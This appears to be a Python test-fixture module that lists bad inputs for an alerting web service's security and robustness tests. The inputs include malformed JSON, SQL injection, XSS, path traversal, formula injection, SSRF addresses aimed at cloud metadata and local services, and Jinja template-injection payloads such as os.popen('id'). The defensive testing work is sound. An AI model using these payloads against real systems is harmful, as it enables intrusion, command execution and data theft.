"""Bad input, named: what has broken servers of this kind, with the answers that are right.

`BODIES` go to every write route, `QUERIES` to every list, `IDENTIFIERS` into every address with an id,
`TEXTS` into every text that ends in a message, `ADDRESSES` into every address the service would call,
`PATTERNS` and `TEMPLATES` into what takes a regular expression or a template. A test walks a list, so a new
line here is a new test on every route.
"""

import json
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from typing import Any

JSON = "application/json"


@dataclass(frozen=True)
class BadBody:
    """A request body no write route may take with a 2xx, with the statuses that are right."""

    name: str
    body: bytes
    statuses: frozenset[int] = frozenset({400})
    content_type: str = JSON
    headers: tuple[tuple[str, str], ...] = ()

    def __str__(self) -> str:
        return self.name


def _bad(name: str, body: bytes, *statuses: int, content_type: str = JSON, **headers: str) -> BadBody:
    spelled = tuple((header.replace("_", "-"), value) for header, value in headers.items())
    return BadBody(name, body, frozenset(statuses or {400}), content_type, spelled)


def _refused_whole() -> Iterator[BadBody]:
    """Bodies that are wrong whatever the route expects."""
    yield _bad("nothing but blanks", b"  \n ")
    yield _bad("truncated", b'{"name": "x"')
    yield _bad("two documents", b"{} {}")
    yield _bad("single quotes", b"{'name': 'x'}")
    yield _bad("trailing comma", b'{"name": "x",}')
    yield _bad("comment", b'{"name": "x"} // why')
    yield _bad("raw control character", b'{"name": "a\x01b"}')
    yield _bad("raw newline in a string", b'{"name": "a\nb"}')
    yield _bad("byte order mark", b'\xef\xbb\xbf{"name": "x"}')
    yield _bad("invalid UTF-8", b'{"name": "\xff\xfe"}')
    yield _bad("surrogates in UTF-8", b'{"name": "\xed\xa0\x80"}')
    yield _bad("overlong UTF-8", b'{"name": "\xc0\xaf"}')
    yield _bad("UTF-16", '{"name": "x"}'.encode("utf-16"))
    yield _bad("UTF-32", '{"name": "x"}'.encode("utf-32"))
    yield _bad("deep arrays, 2 KB", b"[" * 2_048)
    yield _bad("deep arrays, closed", b"[" * 5_000 + b"]" * 5_000)
    yield _bad("deep arrays, 100,000", b"[" * 100_000)
    yield _bad("deep objects", b'{"a":' * 5_000 + b"1" + b"}" * 5_000)
    yield _bad("deep inside a field", b'{"labels":' + b"[" * 40 + b"]" * 40 + b"}")
    yield _bad("a number", b"17")
    yield _bad("a text", b'"text"')
    yield _bad("null", b"null")
    yield _bad("true", b"true")


def _refused_fields() -> Iterator[BadBody]:
    """Objects with something in them that readers of JSON disagree about."""
    yield _bad("duplicate key", b'{"name": "a", "name": "b"}')
    yield _bad("duplicate key further down", b'{"labels": {"a": "1", "a": "2"}}')
    yield _bad("duplicate key by escape", b'{"name": "a", "n\\u0061me": "b"}')
    yield _bad("NUL in a value", b'{"name": "a\\u0000b", "labels": {"a": "\\u0000"}}')
    yield _bad("NUL in a key", b'{"a\\u0000b": "x", "labels": {"a\\u0000": "b"}}')
    yield _bad("lone high surrogate", b'{"name": "\\ud800", "labels": {"a": "\\ud800"}}')
    yield _bad("lone low surrogate", b'{"name": "\\udc00", "labels": {"a": "\\udc00"}}')
    yield _bad("surrogates reversed", b'{"name": "\\udc00\\ud800", "labels": {"a": "\\udc00\\ud800"}}')
    yield _bad("lone surrogate in a key", b'{"\\ud800": "x", "labels": {"\\ud800": "b"}}')
    yield _bad("NaN", b'{"name": NaN, "labels": {"a": "b"}, "metric": {"name": "m", "value": NaN}}')
    yield _bad("Infinity", b'{"name": Infinity, "labels": {"a": "b"}, "metric": {"name": "m", "value": Infinity}}')
    yield _bad("1e400", b'{"name": 1e400, "labels": {"a": "b"}, "metric": {"name": "m", "value": 1e400}}')
    yield _bad("integer of 65 bits", b'{"name": 18446744073709551616, "priority": 18446744073709551616}')
    yield _bad("integer of 4,000 digits", b'{"name": ' + b"9" * 4_000 + b"}")
    yield _bad("integer of 5,000 digits", b'{"name": ' + b"9" * 5_000 + b"}")
    yield _bad("100,000 labels", json.dumps({"labels": {f"l{n}": "x" for n in range(100_000)}}).encode(), 400, 413)
    yield _bad("key of 100 KB", json.dumps({"k" * 100_000: "x"}).encode())
    yield _bad("unknown field", b'{"no_such_field_here": 1}')
    yield _bad("another tenant's id", b'{"tenant": "00000000-0000-7000-8000-000000000000", "tenant_id": 1}')
    yield _bad("prototype", b'{"__proto__": {"is_admin": true}, "__class__": "x"}')


def _refused_by_envelope() -> Iterator[BadBody]:
    """Bodies that are refused for how they are sent."""
    good = b'{"labels": {"alertname": "x"}}'
    for content_type in ("text/xml", "text/plain", "application/x-www-form-urlencoded", "application/xml", ""):
        yield _bad(f"type {content_type or 'missing'}", good, 415, content_type=content_type)
    yield _bad("multipart", b"--x\r\n\r\n--x--", 415, content_type="multipart/form-data; boundary=x")
    for charset in ("utf-7", "utf-16", "latin-1", "nonsense"):
        yield _bad(f"charset {charset}", b'{"name": "+ADw-"}', 415, content_type=f"{JSON}; charset={charset}")
    for encoding in ("gzip", "br", "deflate", "zstd", "gzip, gzip"):
        yield _bad(f"encoding {encoding}", b"\x1f\x8b\x08", 415, Content_Encoding=encoding)
    yield _bad("just above 1 MiB", b'"' + b"x" * 1_048_576 + b'"', 413)
    yield _bad("3 MB", b" " * 3_000_000, 413)


BODIES: tuple[BadBody, ...] = (*_refused_whole(), *_refused_fields(), *_refused_by_envelope())

#: Items a batch of good alerts must survive; each is rejected alone. JSON as text, since some is no Python value.
BAD_ITEMS: dict[str, bytes] = {
    "no labels": b"{}",
    "empty labels": b'{"labels": {}}',
    "65 labels": json.dumps({"labels": {f"l{n}": "x" for n in range(65)}}).encode(),
    "label without a value": b'{"labels": {"a": null}}',
    "number as label": b'{"labels": {"a": 1}}',
    "odd label name": b'{"labels": {"a b": "x"}}',
    "label value of 2 KB": json.dumps({"labels": {"a": "x" * 2_048}}).encode(),
    "annotation of 16 KB": json.dumps({"labels": {"a": "b"}, "annotations": {"d": "x" * 16_384}}).encode(),
    "typo": b'{"labels": {"a": "b"}, "serverity": "critical"}',
    "unknown severity": b'{"labels": {"a": "b"}, "severity": "apocalyptic"}',
    "unknown status": b'{"labels": {"a": "b"}, "status": "maybe"}',
    "time without zone": b'{"labels": {"a": "b"}, "starts_at": "2026-01-01T00:00:00"}',
    "time as number": b'{"labels": {"a": "b"}, "starts_at": 1700000000}',
    "30 February": b'{"labels": {"a": "b"}, "starts_at": "2026-02-30T00:00:00Z"}',
    "end before start": (
        b'{"labels": {"a": "b"}, "starts_at": "2026-01-02T00:00:00Z", "ends_at": "2026-01-01T00:00:00Z"}'
    ),
    "script as link": b'{"labels": {"a": "b"}, "generator_url": "javascript:alert(1)"}',
    "link over two lines": b'{"labels": {"a": "b"}, "generator_url": "https://a.example/\\r\\nX: y"}',
    "metric without value": b'{"labels": {"a": "b"}, "metric": {"name": "m"}}',
    "metric NaN": b'{"labels": {"a": "b"}, "metric": {"name": "m", "value": NaN}}',
    "metric 1e400": b'{"labels": {"a": "b"}, "metric": {"name": "m", "value": 1e400}}',
    "NUL": b'{"labels": {"a": "\\u0000"}}',
    "half a surrogate": b'{"labels": {"a": "\\ud800"}}',
    "repeated label": b'{"labels": {"a": "1", "a": "2"}}',
    "no object": b"[1]",
    "nested deeply": b'{"labels": ' + b"[" * 50 + b"]" * 50 + b"}",
}

#: Times that are taken, moved to an edge and flagged.
FAR_TIMES: tuple[str, ...] = (
    "0001-01-01T00:00:00+14:00",
    "1970-01-01T00:00:00Z",
    "2099-12-31T23:59:59Z",
    "9999-12-31T23:59:59-14:00",
)

#: Query strings every list answers with 400 (or 404 where there is no list), never with 500.
QUERIES: tuple[str, ...] = (
    "id=abc",
    "t=%00",
    "%00=x",
    "cursor=%00",
    "text=%ff%fe",
    "rx=(",
    "ordering=nope",
    "ordering=-tenant__name",
    "tenant__name__startswith=a",
    "labels__alertname=x",
    "limit=0",
    "limit=-1",
    "limit=1000000",
    "limit=1e3",
    "limit=%D9%A3",
    "limit=1&limit=2",
    "cursor=AAAA",
    "cursor=" + "A" * 10_000,
    "format=xml",
    "since=yesterday",
    "since=9999999999999",
    "status=no-such-status",
    "severity=%27%20OR%201=1--",
)

#: In place of an id in an address: a 404, whatever it is.
IDENTIFIERS: tuple[str, ...] = (
    "abc",
    "0",
    "-1",
    "00000000-0000-7000-8000-000000000000",
    "00000000000070008000000000000000",
    "%7B00000000-0000-7000-8000-000000000000%7D",
    "%00",
    "..%2f..%2fetc%2fpasswd",
    "1%27%20OR%201=1--",
    "x" * 5_000,
)

#: Texts that are taken; what they are near (a line, a tag, a mention, a formula) must stay as it was.
TEXTS: dict[str, str] = {
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "html attribute": "\" onmouseover=\"alert(1)' autofocus onfocus='x",
    "template": "{{ 7 * 7 }}{% for a in range(10**9) %}{% endfor %}${7*7}",
    "slack mention": "<!channel> <!here> <!everyone> <@U123> <!subteam^S1>",
    "slack link": "<https://evil.example|https://bank.example>",
    "mrkdwn": "*bold* _it_ ~no~ `code` ```block``` > quote",
    "header": "a\r\nBcc: victim@example.org\r\n\r\nbody",
    "newline": "Disk\nfull",
    "formula": '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "formula plus": "+1+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "escape sequence": "\x1b]0;owned\x07\x1b[2J\x1b[31m",
    "log forgery": "ok\n2026-01-01 [error] forged=true",
    "bidi": "file\u202egpj.exe\u2066\u2069",
    "bidi marks": "a\u200e\u200f\u061cb",
    "byte order mark": "\ufeffx",
    "line separator": "a\u2028b\u2029c",
    "C1 controls": "a\x85b\x9bc",
    "DEL": "a\x7fb",
    "sql": "'; DROP TABLE alert; --",
    "percent": "%s %d %(x)s %n {0} {x.__class__}",
    "emoji": "👩‍🚒🔥" * 20,
    "combining": "Z" + "\u0351" * 200,
    "right to left": "מערכת נפלה",
    "1,024 signs": "x" * 1_024,
}

#: Addresses the service must never call, in the spellings that fool naive checks.
ADDRESSES: tuple[str, ...] = (
    "http://127.0.0.1/",
    "http://localhost/",
    "http://LOCALHOST./",
    "http://127.1/",
    "http://2130706433/",
    "http://0x7f.1/",
    "http://0177.0.0.1/",
    "http://0/",
    "http://①②⑦.⓪.⓪.①/",
    "http://ｌｏｃａｌｈｏｓｔ/",
    "http://[::1]/",
    "http://[::]/",
    "http://[::ffff:127.0.0.1]/",
    "http://[::127.0.0.1]/",
    "http://[64:ff9b::7f00:1]/",
    "http://[2002:7f00:1::]/",
    "http://[fe80::1]/",
    "http://[fec0::1]/",
    "http://[fc00::1]/",
    "http://[ff02::1]/",
    "http://10.0.0.1/",
    "http://172.16.0.1/",
    "http://192.168.0.1/",
    "http://100.64.0.1/",
    "http://192.0.0.8/",
    "http://192.0.0.192/",
    "http://198.18.0.1/",
    "http://224.0.0.1/",
    "http://240.0.0.1/",
    "http://255.255.255.255/",
    "http://169.254.169.254/latest/meta-data/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://168.63.129.16/",
    "http://metadata.google.internal/",
    "https://user:pass@127.0.0.1/",
    "https://example.org@127.0.0.1/",
    "https://127.0.0.1\\@example.org/",
    "https://127.0.0.1%5c@example.org/",
    "https://example.org:22/",
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "ftp://example.org/",
    "//127.0.0.1/",
    "http://",
    "https://exa mple.org/",
    "https://example.org/\r\nX-Injected: 1",
)

#: Regular expressions that RE2 refuses, or that are too long or too dear.
PATTERNS: tuple[str, ...] = (
    "(",
    "[",
    "*",
    "(?=x)y",
    "(?<!x)y",
    r"(a)\1",
    "a{1001}",
    "(?P<n>a",
    "x" * 10_000,
    "((((a{100}){100}){100}){100})",
    "\ud800",
)

#: Templates that must be refused when saved, and must not hurt when rendered.
TEMPLATES: tuple[str, ...] = (
    "{{ 'x' * 10**9 }}",
    "{{ '%0900000000d' % 1 }}",
    "{{ '{:900000000}'.format(1) }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ ''|attr('__class__') }}",
    "{% for a in range(10**9) %}{% endfor %}",
    "{% for a in 'x' * 9999 %}{% for b in 'x' * 9999 %}{% for c in 'x' * 9999 %}.{% endfor %}{% endfor %}{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{% extends 'base' %}",
    "{% import 'x' as y %}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "{{ self.__init__.__globals__ }}",
    "{{ lipsum.__globals__.os.popen('id').read() }}",
    "{{ cycler.__init__.__globals__ }}",
    "{{ labels.update({'a': 'b'}) }}",
    "{{ labels|tojson|replace('a', 'a' * 99999)|replace('a', 'a' * 99999) }}",
    "{{ 'x'|center(900000000) }}",
    "{{ 2 ** 2 ** 99 }}",
    "{{",
    "{% if %}",
)


def alert(**fields: Any) -> dict[str, Any]:
    """A good native alert with some fields replaced or added."""
    return {"labels": {"alertname": "Corpus"}, **fields}


def batch_with(bad_item: bytes) -> bytes:
    """A batch of two good alerts around a bad item."""
    good = json.dumps(alert()).encode()
    return b"[" + good + b", " + bad_item + b", " + good + b"]"


def replay(call: Callable[[BadBody], int], bodies: Iterable[BadBody] = BODIES) -> dict[str, int]:
    """Send every body through `call`, which returns the status; what was answered wrongly, by name."""
    wrong: dict[str, int] = {}
    for bad in bodies:
        status = call(bad)
        if status not in bad.statuses:
            wrong[bad.name] = status
    return wrong
